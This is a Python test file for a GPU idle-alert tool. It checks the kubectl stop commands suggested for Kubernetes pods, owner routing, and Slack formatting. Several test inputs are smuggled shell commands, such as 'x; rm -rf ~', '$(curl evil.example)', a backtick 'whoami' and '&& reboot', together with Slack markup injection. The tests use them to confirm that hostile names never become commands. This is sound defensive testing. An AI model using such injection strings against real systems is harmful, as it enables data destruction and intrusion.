"""Pods in idle alerts: who holds the GPUs, who owns them (routing), what to run instead of "stop the instance"."""

from __future__ import annotations

import re

import pytest

from detector.alerts import AlertManager
from detector.detectors.pods import MAX_UNITS, Pod, owner_tags, stop_command
from detector.engine import Engine
from detector.events import GpuMetric
from detector.rules import Routing, load_rules
from detector.slack import SlackNotifier
from detector.testing import LocalSlack
from tests.helpers import T0, at, usage
from tests.test_partly_idle_gpu import gpu, host

VISION = {"team": "vision", "owner": "dana", "project": "detector-v3"}


def pod(index: int, name: str, workload: str = "", util: float = 1.0, namespace: str = "vision",
        tags: dict | None = None) -> dict:  # fmt: skip
    return gpu(index, util, allocated=True, namespace=namespace, pod=name, container="main", workload=workload,
               tags=VISION if tags is None else tags)  # fmt: skip


@pytest.mark.parametrize(
    ("holder", "command"),
    [
        # a Deployment: scale it to zero (deleting the pod would only get it recreated)
        (Pod(namespace="ml", pod="web-7d9f-x2", workload="Deployment/web"), "kubectl -n ml scale deployment/web --replicas=0"),
        # a StatefulSet likewise
        (Pod(namespace="ml", pod="db-0", workload="StatefulSet/db"), "kubectl -n ml scale statefulset/db --replicas=0"),
        # a Job: delete it (its pods go with it)
        (Pod(namespace="ml", pod="train-x", workload="Job/train"), "kubectl -n ml delete job train"),
        # a Kubeflow notebook's pod (its controller's notebook-name label): the culler's annotation stops it, keeps its volume
        (Pod(namespace="kf", pod="nb-dana-0", workload="StatefulSet/nb-dana", tags={"notebook-name": "nb-dana"}),
         "kubectl -n kf annotate notebook nb-dana kubeflow-resource-stopped=$(date -u +%Y-%m-%dT%H:%M:%SZ) --overwrite"),
        # the Notebook itself named as the controller
        (Pod(namespace="kf", pod="nb-0", workload="Notebook/nb"),
         "kubectl -n kf annotate notebook nb kubeflow-resource-stopped=$(date -u +%Y-%m-%dT%H:%M:%SZ) --overwrite"),
        # a bare pod: delete it
        (Pod(namespace="ml", pod="debug"), "kubectl -n ml delete pod debug"),
        # a ReplicaSet (a Deployment may own it: scaling it would be undone), a DaemonSet: no command
        (Pod(namespace="ml", pod="web-x", workload="ReplicaSet/web-7d9f"), None),
        (Pod(namespace="ml", pod="dcgm-x", workload="DaemonSet/dcgm"), None),
        # hostile names never become a command someone pastes into a shell
        (Pod(namespace="ml", pod="x; rm -rf ~"), None),
        (Pod(namespace="ml", pod="x", workload="Job/$(curl evil.example)"), None),
        (Pod(namespace="ml`whoami`", pod="x", workload="Job/train"), None),
        (Pod(namespace="ml", pod="x", workload="Deployment/<!channel>"), None),
        (Pod(namespace="kf", pod="nb-0", workload="StatefulSet/nb", tags={"notebook-name": "nb && reboot"}), None),
        # no namespace: nothing safe to say
        (Pod(pod="debug"), None),
    ],
    ids=["deployment", "statefulset", "job", "kubeflow-notebook-label", "notebook-kind", "bare-pod", "replicaset",
         "daemonset", "hostile-pod", "hostile-workload", "hostile-namespace", "slack-markup-name", "hostile-notebook",
         "no-namespace"],
)
def test_stop_command(holder, command):
    assert stop_command(holder) == command


@pytest.mark.parametrize(
    ("labels", "owner"),
    [
        # the pod's own team/owner/project
        ([VISION], VISION),
        # OpenCost's default label names as fallbacks: department for the team, app for the project; env kept
        ([{"department": "research", "app": "rl-agents", "env": "dev"}],
         {"team": "research", "project": "rl-agents", "env": "dev"}),
        # team wins over department when both are set
        ([{"team": "nlp", "department": "research"}], {"team": "nlp"}),
        # several pods: what they agree on counts, a label they differ on is left to the instance's tags
        ([VISION, {**VISION, "owner": "emeka"}], {"team": "vision", "project": "detector-v3"}),
        # unrelated labels say nothing about an owner
        ([{"pod-template-hash": "7d9f"}], {}),
    ],
    ids=["own-labels", "opencost-fallbacks", "team-over-department", "agreement-only", "no-owner-labels"],
)
def test_owner_tags(labels, owner):
    assert owner_tags([Pod(namespace="ns", pod=f"p{i}", tags=t) for i, t in enumerate(labels)]) == owner


def test_whole_host_idle_alert_names_the_pods_and_their_owner_routes_it(tmp_path):
    """An idle node of the platform team (instance tags) whose GPUs vision's pods hold: the alert is
    vision's (its channel, its owner), lists the pods and the commands; the instance is not the advice."""
    (tmp_path / "rules.yaml").write_text("rules:\n  - {name: idle-gpu, type: idle_gpu}\n")
    (tmp_path / "routing.yaml").write_text('default_channel: "#ml-cost"\nby_tag: team\nchannels: {vision: "#vision-cost"}\n')
    ruleset = load_rules(tmp_path)
    units = [pod(g, "detector-train-x1", "Job/detector-train") for g in range(4)]
    units += [pod(4, "nb-dana-0", "StatefulSet/nb-dana"), gpu(5, allocated=False), gpu(6, allocated=False),
              gpu(7, allocated=False)]  # fmt: skip
    alerts = AlertManager(ruleset=ruleset).handle(Engine(ruleset).process(host([(40, units)])))
    (fired,) = [a for a in alerts if a.change == "fired"]
    assert fired.channel == "#vision-cost"
    assert fired.tags["team"] == "vision" and fired.tags["owner"] == "dana"  # over the instance's team "nlp"
    assert fired.details["pods"] == [
        {"namespace": "vision", "pod": "detector-train-x1", "gpus": [0, 1, 2, 3], "workload": "Job/detector-train",
         "team": "vision", "owner": "dana", "project": "detector-v3", "command": "kubectl -n vision delete job detector-train"},
        {"namespace": "vision", "pod": "nb-dana-0", "gpus": [4], "workload": "StatefulSet/nb-dana", "team": "vision",
         "owner": "dana", "project": "detector-v3", "command": "kubectl -n vision scale statefulset/nb-dana --replicas=0"},
    ]  # fmt: skip
    assert fired.details["gpus_unallocated"] == 3
    assert "Stop the instance" not in fired.suggestion and "stop what holds them" in fired.suggestion


def test_an_empty_node_says_no_pod_requested_its_gpus(ruleset):
    alerts = AlertManager(ruleset=ruleset).handle(Engine(ruleset).process(host([(40, [gpu(g, allocated=False)
                                                                                       for g in range(8)])])))  # fmt: skip
    (fired,) = [a for a in alerts if a.change == "fired" and a.type == "idle_gpu"]
    assert "No pod requested any of these GPUs" in fired.suggestion
    assert ("Unallocated", "8 of 8 (no pod requested them)") in fired.facts


def test_stuck_gpu_names_the_pod_but_suggests_no_command(ruleset):
    units = [pod(g, "train-x", "Job/train", util=100.0) | {"sm_active": 0.0} for g in range(8)]
    found = [f for f in Engine(ruleset).process(host([(30, units)])) if f.type == "stuck_gpu" and f.action == "fire"]
    (fire,) = found
    assert fire.details["pods"][0]["pod"] == "train-x" and "command" not in fire.details["pods"][0]


def test_slack_names_the_pod_and_the_command_and_keeps_hostile_names_inert(ruleset):
    """Through slack-sdk to the local Slack: the command in a code span, the pod's owner mentioned; a pod
    whose names are markup gets no command and reaches Slack as text."""
    units = [pod(g, "web-7d9f-x2", "Deployment/web", util=95.0 if g == 0 else 1.0) for g in range(4)]
    units += [pod(g, "<!channel>`x", "Deployment/<https://evil.example|web>", tags={"owner": "<!here>"})
              for g in range(4, 8)]  # fmt: skip
    alerts = AlertManager(ruleset=ruleset).handle(Engine(ruleset).process(host([(40, units)])))
    (fired,) = [a for a in alerts if a.change == "fired" and a.type == "partly_idle_gpu"]
    with LocalSlack() as slack:
        notifier = SlackNotifier(token="xoxb-test", channel="#ml-cost", base_url=slack.api_url, timeout=2)
        notifier.routing = Routing(users={"dana": "U0DANA1"})
        notifier.post(fired)
        (post,) = slack.calls("chat.postMessage")
    text = post.text_of_blocks()
    assert "`kubectl -n vision scale deployment/web --replicas=0`" in text
    assert text.count("kubectl") == 1  # none for the hostile pod
    assert "vision/web-7d9f-x2 (Deployment/web)" in text
    assert "vision/&lt;!channel&gt;\u02cbx (Deployment/&lt;https://evil.example|web&gt;)" in text
    assert "*Idle for*" in text and "7 of 8 × A100" in text
    assert re.findall(r"<([^>]*)>", text + str(post.body.get("text", ""))) == []  # no markup from events at all
    assert fired.tags["team"] == "vision"  # the pods agree on the team (the hostile ones carry none)


def test_pods_kept_per_host_are_bounded(ruleset):
    """A producer inventing MIG instances with pods cannot grow idle_gpu's state past MAX_UNITS."""
    events = [usage(T0)] + [GpuMetric(ts=at(T0 + i), resource_id="host-1", gpu_index=i % 8, mig_instance=f"m{i}",
                                      util_pct=1.0, namespace="ns", pod=f"p{i}", allocated=True)
                            for i in range(MAX_UNITS + 300)]  # fmt: skip
    engine = Engine(ruleset)
    engine.process(events)
    state = engine._keys["host-1"].rules["idle-gpu"]
    assert len(state.pods) == MAX_UNITS and len(state.allocated) == MAX_UNITS


def test_a_grouped_message_names_each_hosts_command(ruleset):
    """Openings of one team posted together: each host's line says what to run."""
    alerts = []
    for rid, job in (("host-1", "train-a"), ("host-2", "train-b")):
        events = host([(40, [pod(g, f"{job}-x", f"Job/{job}") for g in range(8)])], rid=rid)
        alerts += [a for a in AlertManager(ruleset=ruleset).handle(Engine(ruleset).process(events)) if a.change == "fired"]
    with LocalSlack() as slack:
        SlackNotifier(token="xoxb-test", channel="#ml-cost", base_url=slack.api_url, timeout=2).post_group(alerts)
        (post,) = slack.calls("chat.postMessage")
    text = post.text_of_blocks()
    assert "run `kubectl -n vision delete job train-a`" in text and "run `kubectl -n vision delete job train-b`" in text


def test_long_pod_names_keep_each_slack_field_within_its_limit(ruleset):
    """Slack refuses a message whole (invalid_blocks) when a section field holds more than 2,000
    characters: five pods whose names the contract allows (1,024 characters) must still post."""
    units = [pod(0, "busy", util=95.0)] + [pod(g, f"{g}" + "p" * 1000, "Deployment/" + "w" * 1000, namespace="n" * 60)
                                           for g in range(1, 8)]  # fmt: skip
    alerts = AlertManager(ruleset=ruleset).handle(Engine(ruleset).process(host([(40, units)])))
    (fired,) = [a for a in alerts if a.change == "fired" and a.type == "partly_idle_gpu"]
    with LocalSlack() as slack:
        SlackNotifier(token="xoxb-test", channel="#ml-cost", base_url=slack.api_url, timeout=2).post(fired)
        (post,) = slack.calls("chat.postMessage")
    fields = [f["text"] for block in post.blocks for f in block.get("fields", [])]
    assert any(text.startswith("*Pods*") for text in fields)
    assert max(len(text) for text in fields) <= 2000


def test_the_shared_pods_table_keeps_no_label_its_pods_do_not():
    """pod_of shares one Pod among the samples that name it alike, in a table of up to 10,000 pods
    that outlives the samples: it must keep what the Pods keep (names, owner labels), not every
    sample's other labels (a node's cloud tags, a pod's own: up to 1,024 of 4 KB each), which on a
    node whose Jobs churn held every label of the latest 10,000 pods (81 MB with 40 short labels)."""
    import gc
    import tracemalloc

    import msgspec

    from detector.detectors import pods as pods_module

    def sample(i: int) -> GpuMetric:  # decoded, as the worker reads it: each sample's strings its own
        tags = {f"label-{j}": f"{i}-{j}-" + "x" * 4000 for j in range(8)} | {"team": "vision"}
        raw = {"ts": at(T0).isoformat(), "resource_id": "node-1", "model": "A100", "gpu_index": 0, "util_pct": 1.0,
               "namespace": "ns", "pod": f"job-{i}", "tags": tags}  # fmt: skip
        return msgspec.json.decode(msgspec.json.encode(raw), type=GpuMetric)

    pods_module._PODS.clear()
    gc.collect()
    tracemalloc.start()
    try:
        kept = [pods_module.pod_of(sample(i)) for i in range(200)]
        gc.collect()
        held = tracemalloc.get_traced_memory()[0]
    finally:
        tracemalloc.stop()
        pods_module._PODS.clear()
    assert all(p is not None and p.tags == {"team": "vision"} for p in kept)
    assert held < 200 * 8 * 4000 / 10, f"{held:,} B held for 200 pods: their samples' other labels kept"
